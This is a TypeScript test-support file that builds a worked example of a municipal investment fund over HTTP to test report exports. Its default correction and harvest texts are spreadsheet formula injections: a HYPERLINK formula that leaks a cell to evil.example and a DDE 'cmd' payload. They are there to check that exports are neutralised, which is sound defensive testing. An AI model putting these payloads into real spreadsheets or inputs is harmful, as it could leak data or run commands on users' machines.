/**
 * The worked example of the report specs, written over HTTP as clients would: a fund of two
 * released tranches, e-arkiv funded two thirds from t1 and one third from t2 with a cost, an
 * effect report, its correction and a harvest, and e-tjanst documented but not funded.
 * The correction's reason and the harvest's decision reference are, unless a spec names its
 * own, formula injections, as a project lead or a finance officer could type them.
 */
import type { Response } from 'supertest';
import {
  aBenefitCase,
  LINE_OWNER,
  OTHER_OWNER,
  REDISTRIBUTABLE_LINE,
} from '../../support/investment.mothers';
import { aDocumentedInvestmentOverHttp } from '../../support/http-mothers';
import { startTestApp, TestApp } from '../../support/test-app';

export const HYPERLINK_REASON = '=HYPERLINK("http://evil.example/?leak="&A1;"Slutfaktura")';
export const CMD_DECISION_REF = "+cmd|' /C calc'!A0";

export const FUND = {
  fundId: 'orebro',
  name: 'Digitaliseringsfond',
  currency: 'SEK',
  decisionRef: 'Ks 1474/2016',
  tranches: [
    { trancheId: 't1', name: 'Etapp 1', amount: '120000000.00', allocatableFrom: '2016-12-31' },
    { trancheId: 't2', name: 'Etapp 2', amount: '80000000.00', allocatableUntil: '2018-12-31' },
  ],
};

export interface WorkedExample {
  readonly t: TestApp;
  /** Moves the test clock. */
  at(iso: string): void;
}

/** The free texts a spec may choose; by default the formula injections above. */
export interface WorkedExampleTexts {
  readonly correctionReason?: string;
  readonly harvestDecisionRef?: string;
}

/** `env`: the service's settings besides the test app's own. */
export const startWorkedExample = async (
  {
    correctionReason = HYPERLINK_REASON,
    harvestDecisionRef = CMD_DECISION_REF,
  }: WorkedExampleTexts = {},
  env: Record<string, string> = {},
): Promise<WorkedExample> => {
  let now = new Date('2017-01-10T09:00:00.000Z');
  const at = (iso: string): void => {
    now = new Date(iso);
  };
  const t = await startTestApp({ clock: () => now, env });
  const finance = () => t.as('fia', 'finance');
  const owner = () => t.as(LINE_OWNER, 'project-lead');
  await finance().post('/api/funds', FUND).expect(201);
  for (const trancheId of ['t1', 't2']) {
    await finance()
      .post(`/api/funds/orebro/tranches/${trancheId}/release`, {
        releasedOn: '2016-12-31',
        decisionRef: 'KF 2016/12',
      })
      .expect(201);
  }
  await aDocumentedInvestmentOverHttp(t, 'e-arkiv');
  const other = t.as('per.persson', 'project-lead');
  await other
    .post('/api/investments', {
      investmentId: 'e-tjanst',
      title: 'E-tjänst',
      department: 'Socialförvaltningen',
      projectLead: 'per.persson',
      need: 'Köer',
    })
    .expect(201);
  await other.put('/api/investments/e-tjanst/benefit-case', aBenefitCase()).expect(200);

  at('2017-03-15T10:00:00.000Z');
  for (const [allocationId, trancheId, amount] of [
    ['a1', 't1', '2000000.00'],
    ['a2', 't2', '1000000.00'],
  ]) {
    await finance()
      .post('/api/funds/orebro/allocations', {
        allocationId,
        investmentId: 'e-arkiv',
        trancheId,
        amount,
        decidedOn: '2017-03-15',
        decisionRef: 'Ks 301/2017',
        caseVersion: 1,
      })
      .expect(201);
  }
  at('2017-06-01T10:00:00.000Z');
  await finance()
    .post('/api/investments/e-arkiv/costs', {
      costId: 'c1',
      amount: '1500000.00',
      incurredOn: '2017-05-30',
      reference: 'Faktura 17-0412',
    })
    .expect(201);
  at('2019-01-20T10:00:00.000Z');
  await owner()
    .post('/api/investments/e-arkiv/effect-reports', {
      reportId: 'r1',
      benefitLineId: 'fewer-licences',
      period: '2018',
      value: '550000.00',
      evidence: 'Fakturor 2018',
    })
    .expect(201);
  at('2019-02-10T10:00:00.000Z');
  await owner()
    .post('/api/investments/e-arkiv/effect-reports/r1/corrections', {
      value: '600000.00',
      reason: correctionReason,
    })
    .expect(201);
  at('2019-02-20T10:00:00.000Z');
  await finance()
    .post('/api/investments/e-arkiv/harvests', {
      harvestId: 'h1',
      benefitLineId: 'fewer-licences',
      fiscalYear: 2019,
      amount: '500000.00',
      decisionRef: harvestDecisionRef,
    })
    .expect(201);
  at('2019-03-01T08:00:00.000Z');
  return { t, at };
};

/** Reads a whole streamed answer as a Buffer (CSV, XLSX, PDF). */
export const binary = (res: Response, done: (error: Error | null, body: Buffer) => void): void => {
  const chunks: Buffer[] = [];
  res.on('data', (chunk: Buffer) => chunks.push(chunk));
  res.on('end', () => done(null, Buffer.concat(chunks)));
};

/**
 * e-arkiv's time-freed line (redistributable, 480 000 forecast for 2018 and 2019) reported for
 * a year by its owner, at the test clock's moment: 201 or the spec fails.
 */
export const reportTimeFreed = async (
  example: WorkedExample,
  reportId: string,
  period: string,
  value: string,
  evidence: string,
): Promise<void> => {
  await example.t
    .as(OTHER_OWNER, 'project-lead')
    .post('/api/investments/e-arkiv/effect-reports', {
      reportId,
      benefitLineId: REDISTRIBUTABLE_LINE,
      period,
      value,
      evidence,
    })
    .expect(201);
};
